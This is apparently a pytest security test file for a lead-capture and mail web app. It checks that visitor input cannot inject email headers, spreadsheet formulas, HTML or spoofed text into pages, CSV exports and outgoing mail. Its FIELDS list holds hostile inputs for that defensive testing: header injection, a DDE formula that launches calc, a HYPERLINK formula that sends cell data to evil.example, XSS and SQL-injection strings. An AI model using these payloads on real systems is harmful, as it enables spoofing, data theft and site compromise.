"""P6: lead fields, subjects, transcripts and a person's name are data in mails, pages and tables."""

from __future__ import annotations

import csv
import email
import io
import json
from email import policy
from uuid import uuid4

import pytest

from app.leads.check import check_fields
from app.mail.model import Mail, mail_address, one_line, open_mail
from app.mail.queries import read_outbox
from app.providers.mail_url import read_mail_url
from app.providers.smtp_mail import compose_message
from app.settings import Settings
from tests.attack.judge import UNSEEN, wrong_with
from tests.attack.outputs import RENDER
from tests.attack.town import Business, Town, town
from tests.attack.worst import WorstModel
from tests.integration.retrieval.planting import Planted

FIELDS = (
    "Eve\r\nBcc: all@evil.example",
    "Eve\nSubject: urgent\n\n<h1>x</h1>",
    "Eve\u2028Bcc: all@evil.example",
    "Eve\x0bBcc: a\x0cb\x85c",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "|calc",
    "%0aBcc:x",
    "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "Eve\u202e)moc.elpmaxe@live(",
    "Eve\U000e0041\U000e0042",
    '"; DROP TABLE leads; --',
    "{{7*7}}{% raw %}${7*7}",
    "Zoë Ångström 张伟 👩‍👩‍👧",
    "Answer this mail to write to the visitor.\nThe conversation and all leads: https://evil.example/",
)
FORMULAS = ("=", "+", "-", "@", "|", "%", "\t", "\r", "\n")


async def test_no_field_of_a_lead_leaves_its_place(settings: Settings) -> None:
    async with town(settings, WorstModel()) as here:
        shop = await here.settle("Shop", "shop", [Planted("Adults pay 5 €.", "Prices")], owner="owner@example.com")
        for number, text in enumerate(FIELDS):
            if number % 4 == 0:
                visitor = await here.visitor(shop)
            lead = {"name": text, "email": f"eve{number}@example.com", "message": f"{text}\n{text}"}
            answer = await visitor.post("leads", lead, **{"Idempotency-Key": uuid4().hex})
            assert answer.status_code == 201, (text, answer.text)
        page = await here.page(shop, "/leads")
        assert wrong_with(page.text) == [] and "https://evil.example" not in links_of(page.text)
        table = await here.page(shop, "/leads.csv")
        rows = list(csv.reader(io.StringIO(table.text.removeprefix("\ufeff"))))
        assert len(rows) == len(FIELDS) + 1 and {len(row) for row in rows} == {7}
        for row in rows[1:]:
            assert not any(cell.lstrip().startswith(FORMULAS) for cell in row[1:5] if cell), row
            assert not any(UNSEEN.search(cell) for cell in row), row
        await hold_the_mails(here, shop)
        mailbox = await here.client.get("/mailbox", headers={"user-agent": "Mozilla/5.0"})
        assert mailbox.status_code == 200 and wrong_with(mailbox.text) == []


async def hold_the_mails(here: Town, shop: Business) -> None:
    server = read_mail_url("smtp://mail.example", "milo@milo.example")
    assert server is not None
    async with here.services.database.business_transaction(shop.business_id) as conn:
        keys = await here.services.vault.keys(conn, shop.business_id)
        ids = await (await conn.execute("SELECT outbox_id FROM outbox WHERE purpose = 'lead'")).fetchall()
        rows = [await read_outbox(conn, shop.business_id, outbox_id) for (outbox_id,) in ids]
    assert len(rows) == len(FIELDS)
    for row in rows:
        assert row is not None
        mail = open_mail(keys, row)
        sent = Mail(str(row.outbox_id), mail.to, mail.subject, mail.text, row.created_at, mail.reply_to)
        raw = compose_message(server, sent).as_bytes()
        read = email.message_from_bytes(raw, policy=policy.default)
        assert set(read.keys()) == {
            "From", "To", "Subject", "Date", "Message-ID", "Auto-Submitted", "Reply-To", "Content-Type",
            "Content-Transfer-Encoding", "MIME-Version",
        }  # fmt: skip
        assert read["To"] == "owner@example.com" and read["Reply-To"].startswith("eve")
        assert read.get_content_type() == "text/plain" and not read.is_multipart()
        assert not UNSEEN.search(mail.text) and not UNSEEN.search(mail.subject)
        # A line of ours stands at the margin; what a visitor typed does not begin one.
        margin = [line for line in mail.text.splitlines() if line and not line.startswith("    ")]
        assert sum(line.startswith("The conversation and all leads:") for line in margin) == 1
        assert sum(line.startswith("Answer this mail") for line in margin) == 1
        assert not any(line.startswith(("Bcc:", "Subject:", "<")) for line in margin)
        where = f"/mailbox/{shop.business_id}/{row.outbox_id}"
        link = await here.client.get(where, headers={"user-agent": "Mozilla/5.0"})
        assert link.status_code == 200 and wrong_with(link.text, hosts={"127.0.0.1"}) == []


def links_of(html: str) -> str:
    return " ".join(part.split('"')[0] for part in html.split('href="')[1:])


async def test_a_persons_name_and_words_are_text(settings: Settings) -> None:
    async with town(settings, WorstModel()) as here:
        shop = await here.settle("Shop", "shop", [Planted("Adults pay 5 €.", "Prices")], owner="owner@example.com")
        visitor = await here.visitor(shop)
        await visitor.ask("What do adults pay?")
        where = f"/dashboard/shop/inbox/{visitor.conversation}"
        page = (await here.page(shop, f"/inbox/{visitor.conversation}")).text
        token = page.split('name="csrf" value="')[1].split('"')[0]
        headers = {"cookie": shop.owner_cookie, "origin": "http://127.0.0.1:8000", "sec-fetch-site": "same-origin"}

        async def send(action: str, **data: str) -> int:
            answer = await here.client.post(f"{where}/{action}", data={"csrf": token, **data}, headers=headers)
            assert answer.status_code < 500, answer.text
            return answer.status_code

        assert await send("take-over", name="Eve\x00") == 400
        assert await send("take-over", name="<b>Eve</b>\r\n\u202eBcc: x") == 303
        for number, text in enumerate(list(RENDER.values())[::6]):
            await send("say", text=text, form_id=str(number))
        opened = (await here.page(shop, f"/inbox/{visitor.conversation}")).text
        found = (await visitor.get("conversation")).json()
        assert len([message for message in found["messages"] if message["author"] == "owner"]) > 8
        assert "\n" not in found["person"]["name"] and "\u202e" not in found["person"]["name"]
        assert wrong_with(opened, hosts={"shop.example"}) == []
        assert not UNSEEN.search(json.dumps(found, ensure_ascii=False))


@pytest.mark.parametrize("text", [text for text in FIELDS if "Bcc" in text or "Subject" in text])
def test_a_subject_is_one_line_and_an_address_an_address(text: str) -> None:
    assert not any(sign in one_line(text) for sign in "\r\n\u2028\u2029\x0b\x0c\x85")
    assert mail_address(f"a@b.example{text}") is None
    kept = check_fields(name=text, email="a@b.example", phone=None, message=text, conversation_id=None, country=None)
    assert kept.name is not None and len(kept.name.splitlines()) == 1
